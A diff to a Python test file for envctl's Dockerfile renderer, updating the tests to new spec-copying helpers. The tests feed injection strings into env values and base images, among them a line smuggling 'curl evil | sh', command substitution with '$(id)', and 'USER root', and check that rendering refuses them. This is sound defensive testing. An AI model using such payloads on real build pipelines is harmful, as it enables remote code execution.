@@ -13,7 +13,8 @@ from envctl.build.lockfile import Lock, parse_lock
 from envctl.build.render import ModelSource, builtin_templates, render_dockerfile, templates_hash
 from envctl.errors import InputError
 from envctl.spec.loading import Environment
-from envctl.spec.model import Spec
+from envctl.spec.model import validated
+from envctl.spec.types import Spec
 
 LOCK_TEXT = """# envctl-lock format 1: written by `envctl lock dev`; do not edit
 # input-hash: 00
@@ -37,7 +38,7 @@ def make_env(**overrides: Any) -> Environment:
         "packages": {"six": "==1.16.0"},
     }
     data.update(overrides)
-    return Environment(spec=Spec.model_validate(data), source="environments/dev.yaml", path=None)
+    return Environment(spec=validated(Spec, data), source="environments/dev.yaml", path=None)
 
 
 def make_lock(text: str = LOCK_TEXT) -> Lock:
@@ -117,8 +118,8 @@ def test_spec_boundary_rejects_injection(field: str, value: object) -> None:
 
 def test_render_quotes_even_unvalidated_env_values() -> None:
     """Defence in depth: a spec that skipped validation still cannot add a line."""
-    spec = make_env().spec.model_copy(
-        update={
+    spec = make_env().spec.replace(
+        **{
             "env": {
                 "X": 'a"\nRUN ["sh", "-c", "curl evil | sh"]\n#',
                 "Y": "$(id)`id`;\r\nUSER root",
@@ -140,14 +141,14 @@ def test_render_quotes_even_unvalidated_env_values() -> None:
     ],
 )
 def test_render_refuses_unvalidated_values_it_cannot_quote(update: dict[str, Any]) -> None:
-    spec = make_env().spec.model_copy(update=update)
+    spec = make_env().spec.replace(**update)
     with pytest.raises(InputError, match="refusing to render"):
         render(Environment(spec=spec, source="x", path=None), system_install=True)
 
 
 def test_render_unvalidated_base_image_is_refused() -> None:
-    image = make_env().spec.image.model_copy(update={"base": "alpine\nRUN evil"})
-    spec = make_env().spec.model_copy(update={"image": image})
+    image = make_env().spec.image.replace(**{"base": "alpine\nRUN evil"})
+    spec = make_env().spec.replace(**{"image": image})
     with pytest.raises(InputError, match="refusing to render"):
         render(Environment(spec=spec, source="x", path=None))
 
